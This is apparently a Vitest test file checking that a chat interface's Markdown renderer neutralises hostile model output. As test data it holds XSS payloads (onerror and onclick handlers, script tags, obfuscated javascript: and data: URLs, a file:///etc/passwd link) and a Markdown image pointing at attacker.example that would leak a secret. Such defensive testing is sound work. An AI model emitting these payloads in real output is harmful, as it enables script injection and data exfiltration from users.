import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from './render-markdown.js';

const renderer = createMarkdownRenderer();

/** Renders into a detached element, as the chat does. */
function render(source: string): HTMLElement {
  const container = document.createElement('div');
  container.append(renderer.render(source));
  return container;
}

/** Every attribute value of every element, for "no handler anywhere" checks. */
function allAttributes(root: Element): string[] {
  return Array.from(root.querySelectorAll('*')).flatMap((node) => Array.from(node.attributes).map((attribute) => `${attribute.name}=${attribute.value}`));
}

describe('markdown rendering of hostile model output', () => {
  it('shows raw HTML as text: no <img>, no handler', () => {
    const root = render('Look: <img src=x onerror="alert(1)"> and <b onclick=alert(2)>bold</b>');
    expect(root.querySelector('img, b')).toBeNull();
    expect(root.textContent).toContain('<img src=x onerror="alert(1)">');
    expect(allAttributes(root).some((attribute) => attribute.startsWith('on'))).toBe(false);
    expect(root.innerHTML).toContain('&lt;img');
  });

  it('never renders <script> or <style> as elements', () => {
    const root = render('<script>alert(1)</script>\n\n<style>body{display:none}</style>\n\n<iframe src="https://evil.example"></iframe>');
    expect(root.querySelector('script, style, iframe')).toBeNull();
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  it('does not make links of javascript:, data:, vbscript:, file: or command: URLs, however they are spelled', () => {
    const hostile = [
      '[click](javascript:alert(1))',
      '[click](JaVaScRiPt:alert(1))',
      '[click](jav&#x61;script:alert(1))',
      '[click](java\tscript:alert(1))',
      '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '[click](vbscript:msgbox(1))',
      '[click](file:///etc/passwd)',
      '[click](command:workbench.action.terminal.new)',
      '<javascript:alert(1)>',
      '[ref][1]\n\n[1]: javascript:alert(1)',
    ];
    for (const source of hostile) {
      const root = render(source);
      expect(root.querySelector('a'), source).toBeNull();
    }
  });

  it('renders http(s) links as plain anchors (the host opens them), including linkified URLs', () => {
    const root = render('See [the docs](https://docs.aws.amazon.com/sagemaker/) or www.example.com.');
    const hrefs = Array.from(root.querySelectorAll('a')).map((anchor) => anchor.getAttribute('href'));
    expect(hrefs).toEqual(['https://docs.aws.amazon.com/sagemaker/', 'http://www.example.com']);
    expect(allAttributes(root).filter((attribute) => attribute.startsWith('target') || attribute.startsWith('on'))).toEqual([]);
  });

  it('never loads an image: a Markdown image becomes a link to it (or text if unsafe)', () => {
    const root = render('![secret](https://attacker.example/leak?d=SECRET) ![x](javascript:alert(1))');
    expect(root.querySelector('img')).toBeNull();
    const link = root.querySelector('a.image-link');
    expect(link?.getAttribute('href')).toBe('https://attacker.example/leak?d=SECRET');
    expect(link?.textContent).toBe('Image: secret');
    expect(root.querySelectorAll('a')).toHaveLength(1);
  });

  it('escapes HTML inside code fences and highlights them, with a Copy button per block', () => {
    const root = render('```html\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n```\n\n```js\nconst a = "</code></pre><img src=x onerror=alert(3)>";\n```');
    expect(root.querySelector('script, img')).toBeNull();
    const codes = Array.from(root.querySelectorAll('.code-block pre > code'));
    expect(codes.map((code) => code.className)).toEqual(['hljs language-html', 'hljs language-js']);
    expect(codes[0]!.textContent).toBe('<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n');
    expect(codes[1]!.querySelector('.hljs-string')?.textContent).toBe('"</code></pre><img src=x onerror=alert(3)>"');
    expect(root.querySelectorAll('[data-action="copy-code"]')).toHaveLength(2);
  });

  it('keeps a hostile info string out of attributes', () => {
    const root = render('```js" onmouseover="alert(1)\ncode\n```');
    expect(allAttributes(root).some((attribute) => attribute.includes('onmouseover') || attribute.startsWith('on'))).toBe(false);
    expect(root.querySelector('code')?.className).toBe('hljs');
  });

  it('turns table alignment into classes (style attributes are blocked by the CSP)', () => {
    const root = render('| a | b |\n|:--|--:|\n| 1 | 2 |');
    expect(root.querySelector('[style]')).toBeNull();
    expect(Array.from(root.querySelectorAll('td')).map((cell) => cell.className)).toEqual(['align-left', 'align-right']);
  });

  it('renders ordinary Markdown: emphasis, lists, inline code', () => {
    const root = render('**bold** _em_ `code`\n\n1. one\n2. two');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('em')?.textContent).toBe('em');
    expect(root.querySelector('p > code')?.textContent).toBe('code');
    expect(root.querySelectorAll('ol > li')).toHaveLength(2);
  });
});
